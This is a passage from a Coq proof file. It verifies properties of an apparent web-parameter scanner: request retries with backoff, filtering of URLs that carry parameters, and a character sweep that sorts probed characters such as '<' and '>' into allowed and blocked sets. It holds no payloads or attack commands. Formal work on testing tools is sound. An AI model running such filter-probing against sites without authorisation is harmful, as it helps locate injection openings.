    [lia|].
  rewrite retry_from_S. destruct (decide (attempt = k)) as [->|Hne].
  - rewrite Hok. by rewrite Nat.sub_diag.
  - destruct (Hfail attempt ltac:(lia)) as [e ->].
    destruct (Z.eqb_spec (Z.of_nat attempt) (max_retries - 1)) as [Heq|_];
      [lia|].
    rewrite (IH (S attempt)); [|lia|lia|intros j Hj; apply Hfail; lia|done].
    by replace (k - attempt)%nat with (S (k - S attempt)) by lia.
Qed.

Lemma retry_from_failure (max_retries : Z) (delay : Q)
    (remaining attempt : nat) (e : exn) :
  Z.of_nat (attempt + S remaining) = max_retries →
  (∀ j, (attempt ≤ j < attempt + S remaining)%nat →
        ∃ e', attempt_text j = Raise e') →
  attempt_text (attempt + remaining) = Raise e →
  retry_from attempt_text max_retries delay attempt (S remaining)
  = (Raise e, backoff delay attempt remaining).
Proof.
  revert attempt.
  induction remaining as [|remaining IH]; intros attempt Hmax Hfail Hlast;
    rewrite retry_from_S.
  - rewrite Nat.add_0_r in Hlast. rewrite Hlast.
    by destruct (Z.eqb_spec (Z.of_nat attempt) (max_retries - 1)) as [_|Hne];
      [|lia].
  - destruct (Hfail attempt ltac:(lia)) as [e' ->].
    destruct (Z.eqb_spec (Z.of_nat attempt) (max_retries - 1)) as [Heq|_];
      [lia|].
    rewrite (IH (S attempt)); [done|lia|intros j Hj; apply Hfail; lia|].
    by rewrite <- Hlast, Nat.add_succ_r.
Qed.

End RetryProperties.

(** X25. [retry_request]: with no attempt allowed it sends nothing and
    returns the empty string; it returns the text of the first attempt that
    succeeds, having slept [delay], [2 * delay], ... after the failures
    before it; when every attempt fails it raises what the last attempt
    raised, without sleeping after it. *)
Theorem retry_request_outcomes (attempt_text : nat → result string)
    (max_retries : Z) (delay : Q) :
  ((max_retries ≤ 0)%Z →
   retry_request attempt_text max_retries delay = (Ok "", []))
  ∧ (∀ k text_,
       (Z.of_nat k < max_retries)%Z →
       (∀ j, (j < k)%nat → ∃ e, attempt_text j = Raise e) →
       attempt_text k = Ok text_ →
       retry_request attempt_text max_retries delay
       = (Ok text_, backoff delay 0 k))
  ∧ (∀ e,
       (0 < max_retries)%Z →
       (∀ j, (Z.of_nat j < max_retries)%Z → ∃ e', attempt_text j = Raise e') →
       attempt_text (Z.to_nat (max_retries - 1)) = Raise e →
       retry_request attempt_text max_retries delay
       = (Raise e, backoff delay 0 (Z.to_nat (max_retries - 1)))).
Proof.
  unfold retry_request. split; [|split].
  - intros Hmax. by replace (Z.to_nat max_retries) with 0%nat by lia.
  - intros k text_ Hk Hfail Hok.
    rewrite (retry_from_success attempt_text max_retries delay
               (Z.to_nat max_retries) 0 k text_);
      [by rewrite Nat.sub_0_r|lia|lia|intros j Hj; apply Hfail; lia|done].
  - intros e Hmax Hfail Hlast.
    replace (Z.to_nat max_retries) with (S (Z.to_nat (max_retries - 1)))
      by lia.
    apply retry_from_failure; [lia|intros j Hj; apply Hfail; lia|done].
Qed.

(** Two failures, then an answer: the delays are [delay] and [2 * delay]. *)
Example retry_request_third_time_lucky :
  retry_request third_time_lucky 3 1
  = (Ok "<p>ok</p>", [1 * inject_Z 1; 1 * inject_Z 2]%Q)
  ∧ fst (retry_request third_time_lucky 2 1) = Raise ClientError.
Proof. split; reflexivity. Qed.

(** ** The list of valid URLs *)

Lemma validate_url_list_again (E : Env) (valid_urls : list string) :
  Forall (λ url, strip url = url
                 ∧ validate_url_parameters E (strip url) = true) valid_urls →
  map strip
    (filter (λ url, validate_url_parameters E (strip url) = true) valid_urls)
  = valid_urls.
Proof.
  induction 1 as [|url rest [Hstrip Hparams] Hrest IH]; [done|].
  rewrite filter_cons, decide_True by done. cbn [map].
  by rewrite Hstrip, IH.
Qed.

(** X26. [validate_url_list]: every URL it returns is stripped and has at
    least one parameter; the flag tells whether there is one; and on the
    list it returned it returns the same list. *)
Theorem validate_url_list_valid (E : Env) (urls : list string) :
  Forall (λ url, strip url = url ∧ extract_parameters E url ≠ [])
    (snd (validate_url_list E urls))
  ∧ (fst (validate_url_list E urls) = true
     ↔ snd (validate_url_list E urls) ≠ [])
  ∧ validate_url_list E (snd (validate_url_list E urls))
    = validate_url_list E urls.
Proof.
  assert (Forall (λ url, strip url = url
                         ∧ validate_url_parameters E (strip url) = true)
            (snd (validate_url_list E urls))) as Hvalid.
  { cbn [validate_url_list snd]. apply Forall_forall. intros url Hurl.
    apply list_elem_of_fmap in Hurl as (raw & -> & Hraw).
    apply list_elem_of_filter in Hraw as [Hraw _].
    by rewrite !strip_idemp. }
  split; [|split].
  - eapply Forall_impl; [exact Hvalid|]. intros url [Hstrip Hparams].
    split; [done|]. rewrite Hstrip in Hparams.
    unfold validate_url_parameters in Hparams.
    apply Nat.ltb_lt in Hparams. intros Hnil. rewrite Hnil in Hparams.
    cbn in Hparams. lia.
  - cbn [validate_url_list fst snd]. by destruct (map strip _).
  - apply validate_url_list_again in Hvalid.
    unfold validate_url_list at 1. by rewrite Hvalid.
Qed.

(** ** The characters of a catalog *)

Lemma batches_concat {A} (l : list A) : (batch ← batches l; batch) = l.
Proof.
  funelim (batches l); [done|].
  rewrite bind_cons.
  change (drop batch_size (x :: l)) with (drop 19 l) in H. rewrite H.
  apply (take_drop 20 (x :: l)).
Qed.

Lemma join_starts_str (values : list string) :
  Forall (λ value, starts_with_continuation value = false) values →
  starts_with_continuation (join values) = false.
Proof.
  induction 1 as [|value rest Hvalue Hrest IH]; [done|].
  change (join (value :: rest)) with (value +:+ join rest).
  destruct value as [|a value]; [exact IH|exact Hvalue].
Qed.

Lemma chars_join_str (values : list string) :
  Forall (λ value, starts_with_continuation value = false) values →
  chars (join values) = value ← values; chars value.
Proof.
  induction 1 as [|value rest Hvalue Hrest IH]; [done|].
  change (join (value :: rest)) with (value +:+ join rest).
  rewrite chars_app by (by apply join_starts_str).
  rewrite IH. done.
Qed.

(** X27. The characters a sweep probes are those [get_all_unique_chars]
    reports for the catalog, so after a sweep the allowed and the blocked
    characters together are that set. The values of the catalog are those
    of a [str]: none begins in the middle of a code point. *)
Theorem swept_chars_all_unique_chars (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) :
  Forall (λ kv, starts_with_continuation (snd kv) = false) (char_groups E) →
  list_to_set (swept_chars E) = get_all_unique_chars (char_groups E)
  ∧ (analyze_parameter E url param w = (Ok analysis, w') →
     viability_gate E url param = Ok true →
     allowed_chars analysis ∪ blocked_chars analysis
     = get_all_unique_chars (char_groups E)).
Proof.
  intros Hstr.
  assert (list_to_set (swept_chars E)
          = get_all_unique_chars (char_groups E)) as Hswept.
  { unfold get_all_unique_chars, swept_chars.
    rewrite chars_join_str by (by apply Forall_fmap).
    f_equal. clear Hstr.
    induction (char_groups E) as [|[group_name chars_] rest IH]; [done|].
    cbn [map snd]. rewrite !bind_cons, batches_concat. f_equal. exact IH. }
  split; [exact Hswept|]. intros Hrun Hgate.
  destruct (analyze_parameter_cases E url param w)
    as [(e & Hraise & _)|[[Hfail _]|(_ & results & analysis' & Hok & _ & Hdom
                                     & Hallowed & Hblocked & _)]].
  - rewrite Hrun in Hraise. discriminate Hraise.
  - congruence.
  - rewrite Hrun in Hok. cbn in Hok. injection Hok as <-.
    rewrite Hallowed, Hblocked, <- Hswept, <- Hdom.
    apply chars_with_partition.
Qed.

(** The catalog of [letters_env] has the characters [a], [1], [<], [>]. *)
Lemma swept_chars_all_unique_chars_witness :
  list_to_set (swept_chars letters_env)
  = get_all_unique_chars (char_groups letters_env)
  ∧ (analyze_parameter letters_env page_url "q" still_world
     = (Ok letters_env_profile,
        snd (analyze_parameter letters_env page_url "q" still_world)) →
     viability_gate letters_env page_url "q" = Ok true →
     allowed_chars letters_env_profile ∪ blocked_chars letters_env_profile
     = get_all_unique_chars (char_groups letters_env)).
Proof.
  apply (swept_chars_all_unique_chars letters_env page_url "q" still_world).
  compute_done.
Defined.
